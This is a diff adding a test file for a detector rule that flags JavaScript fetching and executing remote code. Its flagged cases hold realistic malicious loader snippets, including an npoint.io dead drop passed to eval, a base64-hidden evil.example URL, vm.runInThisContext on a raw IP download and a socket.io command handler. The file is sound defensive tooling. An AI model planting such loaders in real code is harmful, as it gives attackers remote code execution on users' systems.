@@ -1,0 +1,90 @@
+import { ruleTest } from '../../testing/rule-tester.js';
+import rule from './remote-code-execution.js';
+
+ruleTest(rule, {
+  clean: [
+    {
+      name: 'htmx-style same-origin script fetch + eval',
+      file: 'src/lazy.js',
+      code: "fetch('/static/widgets.js').then((r) => r.text()).then((code) => { eval(code); });\n",
+    },
+    {
+      name: 'template engine compiles a fetched template (no code sink on the response)',
+      file: 'src/view.js',
+      code: "const tpl = await fetch('https://cdn.example.com/t.html').then((r) => r.text());\nconst render = _.template(tpl);\nconst fn = new Function('data', compiled);\n",
+    },
+    {
+      name: 'webpack eval-source-map module (literal eval)',
+      file: 'dist/main.js',
+      code: 'eval("var x = 1;\\n//# sourceURL=webpack:///./src/index.js");\nfetch(url).then(r => r.json());\n',
+    },
+    {
+      name: 'JSON from an API parsed, not run',
+      file: 'server/prices.js',
+      code: "const axios = require('axios');\nconst r = await axios.get('https://api.coingecko.com/api/v3/simple/price');\nconst prices = JSON.parse(r.data);\n",
+    },
+  ],
+  flagged: [
+    {
+      name: 'npoint dead drop evaluated (await)',
+      file: 'server/controllers/userController.js',
+      code: [
+        "const axios = require('axios');",
+        'exports.getCookie = async () => {',
+        "  const rs = await axios.get('https://api.npoint.io/e8e29958efde154f3d7d');",
+        '  eval(rs.data.cookie);',
+        '};',
+      ].join('\n'),
+      findings: [{ line: 4, severity: 'critical', confidence: 'high', decoded: 'https://api.npoint.io/e8e29958efde154f3d7d', message: /eval runs code from the response of axios\.get/ }],
+    },
+    {
+      name: 'then-callback chain with a base64 URL',
+      file: 'routes/api.js',
+      code: "const u = Buffer.from('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ==', 'base64').toString();\nfetch(u).then(r => r.text()).then(t => new Function(t)());\n",
+      findings: [{ line: 2, decoded: 'https://evil.example/a' }],
+    },
+    {
+      name: 'URL from a base64 env var, error body run in catch',
+      file: 'api/errorHandler.js',
+      code: [
+        "const axios = require('axios');",
+        'const run = async () => {',
+        '  const src = atob(process.env.DB_API_KEY);',
+        '  try { await axios.get(src); } catch (err) { eval(err.response.data); }',
+        '};',
+      ].join('\n'),
+      findings: [{ line: 4, confidence: 'high', decoded: 'URL in environment variable DB_API_KEY', message: /error response/ }],
+    },
+    {
+      name: 'https.get callback, data events, vm',
+      file: 'lib/update.js',
+      code: [
+        "const https = require('https'); const vm = require('vm');",
+        "https.get('https://203.0.113.7:1224/client/5', (res) => {",
+        "  let body = '';",
+        "  res.on('data', (c) => { body += c; });",
+        "  res.on('end', () => vm.runInThisContext(body));",
+        '});',
+      ].join('\n'),
+      findings: [{ line: 5, decoded: 'https://203.0.113.7:1224/client/5' }],
+    },
+    {
+      name: 'socket.io command handler',
+      file: 'client.js',
+      code: "const io = require('socket.io-client');\nconst socket = io('http://198.51.100.4:3000');\nsocket.on('command', (msg) => { eval(msg.code); });\n",
+      findings: [{ line: 3 }],
+    },
+    {
+      name: 'helper function returns the download; require of the written file',
+      file: 'src/boot.js',
+      code: [
+        "const fs = require('fs'); const axios = require('axios');",
+        "async function download(u) { const r = await axios.get(u); return r.data; }",
+        "const code = await download('https://x.example/p.js');",
+        "fs.writeFileSync('/tmp/p.js', code);",
+        "require('/tmp/' + 'p.js');",
+      ].join('\n'),
+      findings: [{ line: 5, message: /require\(<file just written>\)/ }],
+    },
+  ],
+});
